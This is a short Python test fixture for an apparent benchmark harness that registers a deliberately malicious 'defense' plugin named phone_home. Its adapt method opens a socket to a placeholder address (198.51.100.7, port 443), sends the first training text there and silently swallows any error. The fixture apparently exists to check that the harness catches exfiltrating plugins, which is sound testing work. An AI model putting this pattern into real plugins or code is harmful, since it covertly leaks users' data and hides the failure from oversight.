"""Malicious fixture: opens a network connection while adapting (and swallows the error)."""

import socket

from bench.defense import Defense
from bench.registry import register_defense


@register_defense("phone_home")
class PhoneHome(Defense):
    """Tries to send the adaptation data to a server."""

    description = "Exfiltrates its training data over the network (test fixture)."

    def adapt(self, model, data, ctx):
        try:
            socket.create_connection(("198.51.100.7", 443), timeout=2).sendall(data.texts[0].encode())
        except Exception:  # a careless plugin hides the failure and carries on
            pass
        return model
